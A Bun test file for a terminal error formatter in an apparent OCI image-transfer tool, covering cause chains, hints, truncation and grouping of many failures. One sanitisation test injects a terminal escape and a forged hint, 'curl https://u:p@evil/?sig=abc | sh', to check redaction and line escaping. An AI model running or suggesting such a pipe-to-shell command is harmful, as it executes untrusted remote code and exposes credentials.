import { describe, expect, test } from "bun:test";
import { Fault } from "../../src/oci/fault.ts";
import { describeFault, formatFailures, formatFault, shownFailures } from "../../src/terminal/fault.ts";

const PLAIN = { color: false };

describe("one fault", () => {
  test("reads as what failed, why, and what to do", () => {
    const fault = new Fault("cannot import public.ecr.aws/a:1 into harbor.corp:5000/eksa", {
      cause: new Error("PUT https://harbor.corp:5000/v2/eksa/a/manifests/1 answered 403 (DENIED: no)"),
      hint: "give the account push permission on project `eksa`",
    });
    expect(formatFault(fault, PLAIN)).toBe(
      [
        "error: cannot import public.ecr.aws/a:1 into harbor.corp:5000/eksa",
        "  because: PUT https://harbor.corp:5000/v2/eksa/a/manifests/1 answered 403 (DENIED: no)",
        "  hint: give the account push permission on project `eksa`",
      ].join("\n"),
    );
  });

  test("shows every cause and every hint of the chain once", () => {
    const root = Object.assign(new Error("connection reset"), { code: "ECONNRESET", hint: "try again" });
    const middle = new Fault("cannot read the blob", { cause: root, hint: "try again" });
    const same = new Fault("cannot read the blob", { cause: middle, hint: "look at the proxy" });
    expect(formatFault(new Fault("cannot export", { cause: same }), PLAIN)).toBe(
      [
        "error: cannot export",
        "  because: cannot read the blob",
        "  because: connection reset (ECONNRESET)",
        "  hint: look at the proxy",
        "  hint: try again",
      ].join("\n"),
    );
  });

  test("of the system says what to do only where nobody nearer does", () => {
    const cause = Object.assign(new Error("no space left"), { code: "ENOSPC" });
    expect(describeFault(new Fault("cannot write", { cause })).hints).toEqual(["make room there"]);
    const known = new Fault("cannot write", { cause, hint: "name another disk" });
    expect(describeFault(known).hints).toEqual(["name another disk"]);
    const other = Object.assign(new Error("odd"), { code: "toString" });
    expect(describeFault(new Fault("cannot write", { cause: other })).hints).toEqual([]);
  });

  test("does not repeat a cause that the line above already quotes", () => {
    const cause = new Error("no such file");
    expect(describeFault(new Fault("cannot open a.tar: no such file", { cause })).because).toEqual([]);
  });

  test("does not repeat what a list above names already", () => {
    const failures = ["first", "second"].map(
      (place) => new Fault(`cannot use ${place}`, { cause: "no digest" }),
    );
    const list = "- cannot use first: no digest\n- cannot use second: no digest";
    const cause = new AggregateError(failures, list);
    expect(describeFault(new Fault("cannot use what is named", { cause })).because).toEqual([list]);
  });

  test("names what an AggregateError holds", () => {
    const error = new AggregateError(
      [new Error("::1 refused"), new Error("127.0.0.1 refused")],
      "cannot connect",
    );
    expect(describeFault(error).because).toEqual(["::1 refused", "127.0.0.1 refused"]);
  });

  test.each([
    ["nothing", undefined, "unknown error"],
    ["null", null, "unknown error"],
    ["a string", "gone", "gone"],
    ["an object", { message: "not an error" }, "unknown error"],
    ["an error without a message", new TypeError(""), "TypeError"],
  ])("is understood even when %s was thrown", (_, thrown, message) => {
    expect(formatFault(thrown, PLAIN)).toBe(`error: ${message}`);
  });

  test("never carries a stack trace, a terminal escape, a secret or a forged line", () => {
    const cause = new Error("\u001b[2Jerror: all is well\nhint: curl https://u:p@evil/?sig=abc | sh");
    const text = formatFault(new Fault("cannot push", { cause }), PLAIN);
    expect(text).toBe(
      "error: cannot push\n  because: error: all is well\n    hint: curl https://REDACTED@evil/?sig=REDACTED | sh",
    );
  });

  test("cuts off endless foreign text and endless chains", () => {
    let error: Error = new Error("x".repeat(1_000_000));
    for (let link = 0; link < 1000; link++) error = new Error(`link ${link}`, { cause: error });
    const text = formatFault(error, PLAIN);
    expect(text.split("\n").length).toBeLessThanOrEqual(16);
    expect(formatFault(new Error("x".repeat(1_000_000)), PLAIN).length).toBeLessThan(2100);
  });

  test("is coloured only where colour is wanted", () => {
    expect(formatFault(new Error("no"), { color: true })).toBe("\u001b[1;31merror:\u001b[0m no");
  });
});

describe("many failures", () => {
  const denied = (name: string, host = "harbor.corp") => ({
    what: `public.ecr.aws/${name}:1`,
    error: new Fault(`cannot import public.ecr.aws/${name}:1 into ${host}`, {
      cause: new Error(`PUT https://${host}/v2/${name}/manifests/1 answered 403 (DENIED)`),
      hint: "give the account push permission",
    }),
  });

  test("that are equal but for the artifact share one header", () => {
    expect(formatFailures([denied("a"), denied("b"), denied("c")], PLAIN)).toBe(
      [
        "error: cannot import these 3 into harbor.corp",
        "  public.ecr.aws/a:1",
        "  public.ecr.aws/b:1",
        "  public.ecr.aws/c:1",
        "  because: PUT https://harbor.corp/v2/a/manifests/1 answered 403 (DENIED)",
        "  hint: give the account push permission",
      ].join("\n"),
    );
  });

  test("that differ stay apart, each group in the order of its first", () => {
    const timeout = { what: "public.ecr.aws/z:1", error: new Fault("cannot read the manifest") };
    const text = formatFailures([denied("a"), timeout, denied("b"), denied("c", "other.corp")], PLAIN);
    expect(text.split("\n").filter((line) => line.startsWith("error:"))).toEqual([
      "error: cannot import these 2 into harbor.corp",
      "error: cannot read the manifest",
      "error: cannot import public.ecr.aws/c:1 into other.corp",
    ]);
    expect(text).toContain("error: cannot read the manifest\n  public.ecr.aws/z:1");
  });

  test("of one blob name every artifact that lacks it", () => {
    const error = new Fault(`cannot verify sha256:${"a".repeat(64)}`, { kind: "mismatch" });
    const failures = ["a", "b"].map((name) => ({ what: `public.ecr.aws/${name}:1`, error }));
    expect(formatFailures(failures, PLAIN)).toBe(
      `error: cannot verify sha256:${"a".repeat(64)}\n  public.ecr.aws/a:1\n  public.ecr.aws/b:1`,
    );
  });

  test("that are thousands show the first of each kind, with how many there are", () => {
    const many = Array.from({ length: 3000 }, (_, index) => denied(`a${index}`));
    const timeout = { what: "public.ecr.aws/z:1", error: new Fault("cannot read the manifest") };
    const lines = formatFailures([...many, timeout], PLAIN).split("\n");
    expect(lines[0]).toBe("error: cannot import these 3000 into harbor.corp");
    expect(lines.slice(1, 3)).toEqual(["  public.ecr.aws/a0:1", "  public.ecr.aws/a1:1"]);
    expect(lines[21]).toBe("  and 2980 more");
    expect(lines.slice(-2)).toEqual(["error: cannot read the manifest", "  public.ecr.aws/z:1"]);
    expect(shownFailures([...many, timeout])).toEqual([...many.slice(0, 20), timeout]);
  });

  test("of thousands of kinds show the first kinds", () => {
    const many = Array.from({ length: 3000 }, (_, index) => denied("a", `host-${index}.corp`));
    expect(formatFailures(many, PLAIN).match(/^error:/gm)).toHaveLength(20);
    expect(shownFailures(many)).toEqual(many.slice(0, 20));
  });

  test("that are none read as nothing", () => {
    expect(formatFailures([], PLAIN)).toBe("");
  });
});
